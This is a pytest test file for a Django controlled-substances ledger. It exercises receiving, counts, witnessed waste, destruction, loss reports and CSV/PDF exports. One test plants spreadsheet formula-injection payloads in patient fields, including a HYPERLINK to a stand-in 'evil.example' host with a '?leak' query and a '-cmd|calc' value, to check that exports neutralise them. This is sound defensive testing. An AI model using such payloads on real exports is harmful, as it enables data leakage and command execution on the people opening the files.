"""The manager's pages: receiving, counts, reconciliation and the reports (CSV and print)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from controlled_substances import services
from controlled_substances.models import Container, CountLine, LedgerEntry
from controlled_substances.tests.factories import (
    PASSWORD,
    ProductFactory,
    SupplierFactory,
    container,
    manager,
    nurse,
    receive,
    registration,
)
from patients.tests.factories import PatientFactory

pytestmark = pytest.mark.django_db


def test_receiving_stock_through_the_page(client_as, admin):
    client = client_as(admin)
    product, supplier = ProductFactory(), SupplierFactory()
    today = timezone.localdate()
    response = client.post(
        reverse("controlled_substances:receive"),
        {
            "registration": registration().pk,
            "product": product.pk,
            "supplier": supplier.pk,
            "lot_number": "Z9",
            "expiry_date": today.replace(year=today.year + 1),
            "invoice_number": "INV-1",
            "invoice_date": today,
            "containers": 2,
        },
    )
    assert response.status_code == 302
    assert Container.objects.filter(lot__lot_number="Z9").count() == 2


def test_bad_receipt_input_is_a_field_error_not_a_500(client_as, admin):
    response = client_as(admin).post(
        reverse("controlled_substances:receive"), {"containers": "-3", "invoice_date": "x"}
    )
    assert response.status_code == 200
    assert {"containers", "invoice_date", "product"} <= response.context["form"].errors.keys()


def test_an_overdraw_on_a_form_is_shown_on_the_form(client_as, admin):
    vial, second = container(), nurse(password=PASSWORD)
    response = client_as(admin).post(
        reverse("controlled_substances:container-adjust", args=[vial.pk]),
        {
            "delta_ml": "-11",
            "reason": "x",
            "resolution": "adjust",
            "not_a_loss_confirmed": "on",
            "witness": second.pk,
            "witness_password": PASSWORD,
        },
    )
    assert response.status_code == 200
    assert "Only 10.00 mL remain" in response.content.decode()


def test_a_count_page_flow_with_an_explained_discrepancy(client_as, admin):
    client = client_as(admin)
    a, b = receive(containers=2, by=admin)
    data = {
        "type": "periodic",
        "business_time": "close",
        f"ml_{a.pk}": "9.95",
        f"method_{a.pk}": "exact",
        f"ml_{b.pk}": "10.00",
        f"method_{b.pk}": "exact",
    }
    response = client.post(reverse("controlled_substances:count-new"), data)
    assert response.status_code == 302
    line = CountLine.objects.exclude(discrepancy_ml=0).get()
    detail = client.get(response["Location"])
    assert "Explain and reconcile" in detail.content.decode()
    client.post(
        reverse("controlled_substances:count-line-resolve", args=[line.pk]),
        {
            "resolution": "adjust",
            "explanation": "Meniscus misread at receipt",
            "witness": nurse(password=PASSWORD).pk,
            "witness_password": PASSWORD,
        },
    )
    line.refresh_from_db()
    assert line.explanation
    assert line.resolution.kind == "adjustment"
    page = client.get(reverse("controlled_substances:index")).content.decode()
    assert "balance equals the sum of its ledger entries" in page


def _dispense(n, **patient):
    by, witness = nurse(), nurse()
    vials = receive(containers=n, by=manager())
    for vial in vials:
        draw = services.administration_record(
            container=vial, volume_ml="0.70", patient=PatientFactory(**patient), by=by, at=timezone.now()
        )
        services.waste_record(of_draw=draw, volume_ml="0.10", witness=witness, by=by, at=timezone.now())


@pytest.mark.parametrize("n", [2, 8])
def test_the_dispensing_log_query_count_does_not_grow(client_as, admin, django_assert_max_num_queries, n):
    _dispense(n)
    client = client_as(admin)
    url = reverse("controlled_substances:report-dispensing")
    # session, user, groups/perms, audit (one statement), registrations (the chooser), entries,
    # wastes, witnesses, policy, nav permission checks: the same for 2 rows and 8
    with django_assert_max_num_queries(17):
        response = client.get(url)
    assert response.status_code == 200
    assert len(response.context["tables"][0].rows) == n


def test_the_dispensing_csv_has_the_1304_22_content(client_as, admin):
    _dispense(1)
    response = client_as(admin).get(reverse("controlled_substances:report-dispensing"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, first = rows[1], rows[2]
    record = dict(zip(header, first, strict=True))
    assert record["Drawn mg"] == "35.00"
    assert record["Wasted mg"] == "5.00"
    assert record["Administered mg"] == "30.00"
    assert record["Patient"]
    assert record["Administered by"]
    assert record["Initials"]
    assert "50 mg/mL" in record["Drug, form, strength"]
    assert AuditEvent.objects.filter(action="controlled_substances.report.dispensing", verb="export").exists()


FORMULA = '=HYPERLINK("http://evil.example/?leak","Open chart")'


def test_csv_formula_injection_a_patient_named_as_a_formula_is_text_in_the_dispensing_csv(client_as, admin):
    # A name typed as a spreadsheet formula would run when the manager opens the export.
    _dispense(1, legal_last_name=FORMULA, email="f@example.com", address_line1="+1 Formula Way", city="-cmd|calc")
    response = client_as(admin).get(reverse("controlled_substances:report-dispensing"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    record = dict(zip(rows[1], rows[2], strict=True))
    assert record["Patient"].startswith("'" + FORMULA)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]


@pytest.mark.parametrize("name", ["report-balances", "report-waste", "report-discrepancies"])
def test_every_report_prints_and_exports(client_as, admin, name):
    _dispense(1)
    client = client_as(admin)
    url = reverse(f"controlled_substances:{name}")
    assert client.get(url, {"print": "1"}).status_code == 200
    assert client.get(url, {"format": "csv"})["Content-Type"].startswith("text/csv")


def test_a_bad_period_is_a_field_error(client_as, admin):
    response = client_as(admin).get(
        reverse("controlled_substances:report-waste"), {"start": "2026-05-01", "end": "2026-01-01"}
    )
    assert response.status_code == 200
    assert response.context["filter_form"].errors["end"]


@pytest.mark.parametrize(
    ("period", "field"),
    [({"start": "9999-12-30", "end": "9999-12-31"}, "end"), ({"start": "0001-01-01", "end": "0001-01-02"}, "start")],
)
def test_the_first_and_last_days_there_are_are_refused_at_the_field_not_a_500(client_as, admin, period, field):
    response = client_as(admin).get(reverse("controlled_substances:report-dispensing"), period)
    assert response.status_code == 200
    assert "between 1900 and 2999" in " ".join(response.context["filter_form"].errors[field])


def test_reversing_through_the_page_keeps_the_original(client_as, admin, patient):
    vial = container()
    entry = services.administration_record(
        container=vial, volume_ml="1", patient=patient, by=nurse(), at=timezone.now()
    )
    second = nurse(password=PASSWORD)
    client_as(admin).post(
        reverse("controlled_substances:entry-reverse", args=[entry.pk]),
        {"reason": "Wrong patient", "witness": second.pk, "witness_password": PASSWORD},
    )
    vial.refresh_from_db()
    assert vial.remaining_ml == Decimal("10.00")
    assert LedgerEntry.objects.filter(reverses=entry).exists()


def test_a_clinician_records_witnessed_waste_but_sees_no_stock_pages(client_as):
    rn = nurse()
    witness = nurse(password=PASSWORD)
    vial = container()
    client = client_as(rn)
    assert client.get(reverse("controlled_substances:index")).status_code == 403
    response = client.post(
        reverse("controlled_substances:container-waste", args=[vial.pk]),
        {"volume_ml": "0.5", "manner": "sink", "witness": witness.pk, "witness_password": PASSWORD},
    )
    assert response.status_code == 302


def test_the_waste_log_exports_as_pdf_through_the_documents_pipeline(client_as, admin, settings):
    settings.LEDGER_EXPORT_BACKGROUND_ROWS = 300  # inline (by default every ledger PDF is the worker's)
    _dispense(1)
    response = client_as(admin).get(reverse("controlled_substances:report-waste"), {"format": "pdf"})
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert AuditEvent.objects.filter(action="controlled_substances.report.waste", verb="export").exists()


def test_destruction_through_the_page_needs_both_witness_passwords(client_as, admin):
    vial = container()
    w1, w2 = manager(password=PASSWORD), nurse(password=PASSWORD)
    url = reverse("controlled_substances:container-destroy", args=[vial.pk])
    data = {
        "form_41_ref": "F41-0007",
        "manner": "Reverse distributor kit",
        "witness": w1.pk,
        "witness_password": PASSWORD,
        "witness_2": w2.pk,
        "witness_2_password": "wrong",
    }
    response = client_as(admin).post(url, data)
    assert response.context["form"].errors["witness_2_password"]
    response = client_as(admin).post(url, {**data, "witness_2_password": PASSWORD})
    assert response.status_code == 302
    entry = LedgerEntry.objects.get(kind="destruction")
    assert (entry.witness, entry.second_witness, entry.quantity_ml) == (w1, w2, Decimal("10.00"))


def test_a_loss_through_the_page_opens_the_report_with_its_deadlines(client_as, admin):
    vial = container()
    response = client_as(admin).post(
        reverse("controlled_substances:container-loss", args=[vial.pk]),
        {"kind": "theft", "volume_ml": "10", "description": "Vial missing from the locked cabinet"},
    )
    assert response.status_code == 302
    page = client_as(admin).get(response["Location"]).content.decode()
    assert "within 1 business day" in page
    assert "within 45 days" in page


def test_filing_the_form_106_is_audited_with_old_and_new_values(client_as, admin):
    vial = container()
    entry = services.loss_record(
        container=vial, volume_ml="1", kind="loss", discovered_at=timezone.now(), description="Spill", by=admin
    )
    url = reverse("controlled_substances:loss-report", args=[entry.loss_report_id])
    response = client_as(admin).post(url, {"form_106_ref": "106-ABC", "notice_given_on": timezone.localdate()})
    assert response.status_code == 302
    event = AuditEvent.objects.get(action="controlled_substances.loss_report.updated")
    assert event.changes["form_106_ref"] == ["", "106-ABC"]
